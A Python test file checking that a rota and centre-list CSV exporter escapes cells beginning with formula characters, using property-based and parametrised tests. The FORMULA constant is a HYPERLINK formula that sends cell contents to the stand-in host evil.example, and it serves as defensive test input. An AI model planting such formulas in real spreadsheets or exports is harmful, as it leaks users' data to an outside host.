"""Somebody's display name is a formula: it reaches a spreadsheet as words, and comes back as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.rotas import export_rota, import_rota
from models.centre import Centre
from models.changed import replace
from routing.centres import Centres, read_centres, write_centres
from routing.directory import generated
from routing.spreadsheet import guarded, unguarded
from tests.town import Town

FORMULA = '=HYPERLINK("https://evil.example?"&A1)'


@given(st.text(st.sampled_from("'=+-@\t\r\n aก1")))
def test_every_cell_comes_back_and_none_begins_a_formula(cell: str):
    assert unguarded(guarded(cell)) == cell
    assert not guarded(cell).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_a_rota(town: Town):
    town.officer("TH-92", FORMULA)
    store = town.service.store
    with store.read() as connection:
        text = export_rota(connection)
    head, row = csv.reader(io.StringIO(text))
    assert dict(zip(head, row, strict=True))["name"] == f"'{FORMULA}"
    row[head.index("officer")], row[head.index("kind")], row[head.index("hours")] = "", "weekly", "Mo-Su 08:00-20:00"
    out = io.StringIO()
    csv.writer(out).writerows([head, row])
    assert import_rota(store, out.getvalue(), town.clock.now(), "test") == 1


@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-1", "@SUM(A1)"])
def test_the_list_of_centres(name: str):
    before: Centre = replace(next(iter(generated())), name_th=name, source=name)
    text = write_centres([before])
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(text)) for cell in row)
    after = read_centres(text)
    assert isinstance(after, Centres)
    assert after.centres == (before,)
